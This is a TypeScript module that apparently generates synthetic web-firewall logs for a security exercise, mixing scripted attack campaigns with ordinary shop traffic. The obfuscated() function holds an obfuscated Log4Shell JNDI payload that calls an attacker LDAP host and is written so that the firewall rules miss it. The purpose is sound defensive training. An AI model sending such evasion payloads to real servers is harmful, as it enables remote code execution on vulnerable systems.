import { ADDRESSES, at, HOUR_MS, MINUTE_MS } from './account';
import { type Random, seededRandom } from './random';
import { ATTACKS, type AttackName, type AttackPlan } from './waf-attacks';

export interface Request {
  readonly at: number;
  readonly clientIp: string;
  readonly country: string;
  readonly action: 'BLOCK' | 'ALLOW' | 'COUNT';
  readonly method: string;
  readonly uri: string;
  readonly args: string;
  readonly userAgent: string;
  readonly attack?: AttackPlan;
  readonly requestId: string;
}

/** One visitor working through some attacks during a stretch of the week. */
interface Campaign {
  readonly clientIp: string;
  readonly country: string;
  readonly attacks: readonly AttackName[];
  readonly from: number;
  readonly hours: number;
  readonly requests: number;
}

/** The shop's load balancer: full logs. */
const STOREFRONT: readonly Campaign[] = [
  {
    clientIp: ADDRESSES.scanner,
    country: 'NL',
    attacks: ['badBot', 'exploitPath', 'traversal'],
    from: at(0, '19:05:00'),
    hours: 2,
    requests: 48,
  },
  {
    clientIp: ADDRESSES.intruder,
    country: 'NL',
    attacks: ['sqli', 'sqliUnion', 'traversal'],
    from: at(1, '01:20:00'),
    hours: 5,
    requests: 64,
  },
  {
    clientIp: ADDRESSES.intruder,
    country: 'NL',
    attacks: ['metadata', 'exploitPath'],
    from: at(1, '20:10:00'),
    hours: 2,
    requests: 14,
  },
  {
    clientIp: ADDRESSES.intruder,
    country: 'NL',
    attacks: ['log4jHeader', 'log4jQuery'],
    from: at(2, '01:52:00'),
    hours: 1,
    requests: 31,
  },
  {
    clientIp: ADDRESSES.intruderShell,
    country: 'RO',
    attacks: ['log4jHeader'],
    from: at(2, '02:12:00'),
    hours: 1,
    requests: 6,
  },
  {
    clientIp: '192.0.2.31',
    country: 'BR',
    attacks: ['reputation'],
    from: at(3, '11:00:00'),
    hours: 9,
    requests: 37,
  },
  {
    clientIp: '192.0.2.84',
    country: 'VN',
    attacks: ['reputation', 'badBot'],
    from: at(4, '02:00:00'),
    hours: 14,
    requests: 33,
  },
  {
    clientIp: '198.51.100.140',
    country: 'US',
    attacks: ['sqli', 'exploitPath'],
    from: at(5, '13:30:00'),
    hours: 6,
    requests: 29,
  },
  {
    clientIp: '203.0.113.201',
    country: 'IN',
    attacks: ['traversal', 'badBot'],
    from: at(6, '07:00:00'),
    hours: 5,
    requests: 22,
  },
];

/** CloudFront's web ACL: samples only. */
const EDGE: readonly Campaign[] = [
  {
    clientIp: ADDRESSES.scanner,
    country: 'NL',
    attacks: ['badBot', 'exploitPath'],
    from: at(0, '18:30:00'),
    hours: 3,
    requests: 40,
  },
  {
    clientIp: ADDRESSES.intruder,
    country: 'NL',
    attacks: ['sqli', 'log4jQuery'],
    from: at(1, '23:40:00'),
    hours: 2,
    requests: 26,
  },
  {
    clientIp: '192.0.2.84',
    country: 'VN',
    attacks: ['reputation'],
    from: at(4, '03:00:00'),
    hours: 10,
    requests: 30,
  },
  {
    clientIp: '198.51.100.140',
    country: 'US',
    attacks: ['sqliUnion'],
    from: at(5, '12:00:00'),
    hours: 4,
    requests: 18,
  },
];

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (X11; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0',
];
const PAGES = [
  '/',
  '/products',
  '/products/tents',
  '/products/boots',
  '/cart',
  '/search',
  '/account/login',
  '/static/app.js',
];

/** Requests that the load balancer's web ACL saw, oldest first. */
export function storefrontRequests(): readonly Request[] {
  const random = seededRandom(4002);
  return byTime([
    ...STOREFRONT.flatMap((campaign) => played(campaign, random)),
    ...obfuscated(random),
    ...visitors(random, 90),
  ]);
}

/** Requests that the distribution's web ACL saw, oldest first. */
export function edgeRequests(): readonly Request[] {
  const random = seededRandom(4003);
  return byTime([...EDGE.flatMap((campaign) => played(campaign, random)), ...visitors(random, 80)]);
}

function played(campaign: Campaign, random: Random): readonly Request[] {
  return Array.from({ length: campaign.requests }, () => {
    const attack: AttackPlan = ATTACKS[random.pick(campaign.attacks)];
    return {
      at: campaign.from + random.int(0, campaign.hours * HOUR_MS),
      clientIp: campaign.clientIp,
      country: campaign.country,
      action: 'BLOCK' as const,
      method: attack.method,
      uri: attack.uri,
      args: attack.args,
      userAgent: attack.userAgent,
      attack,
      requestId: random.hex(24),
    };
  });
}

/** The ones that no rule recognised: this is how the search server was reached. */
function obfuscated(random: Random): readonly Request[] {
  return [at(2, '02:28:40'), at(2, '02:29:55'), at(2, '02:30:31')].map((instant) => ({
    at: instant,
    clientIp: ADDRESSES.intruder,
    country: 'NL',
    action: 'ALLOW',
    method: 'GET',
    uri: '/search',
    args: `q=boots&sort=\${\${env:X:-j}n\${env:X:-d}i:\${lower:l}dap://${ADDRESSES.intruderShell}:1389/b}`,
    userAgent: 'Mozilla/5.0',
    requestId: random.hex(24),
  }));
}

function visitors(random: Random, count: number): readonly Request[] {
  return Array.from({ length: count }, () => ({
    at: at(0, '00:00:00') + random.int(5, 7 * 24 * 60 - 30) * MINUTE_MS + random.int(0, 59_000),
    clientIp: `${random.pick(['192.0.2', '198.51.100'])}.${random.int(100, 130)}`,
    country: random.pick(['DE', 'DE', 'DE', 'AT', 'FR', 'NL', 'CH']),
    action: 'ALLOW' as const,
    method: 'GET',
    uri: random.pick(PAGES),
    args: '',
    userAgent: random.pick(BROWSERS),
    requestId: random.hex(24),
  }));
}

const byTime = (requests: readonly Request[]) => [...requests].sort((a, b) => a.at - b.at);
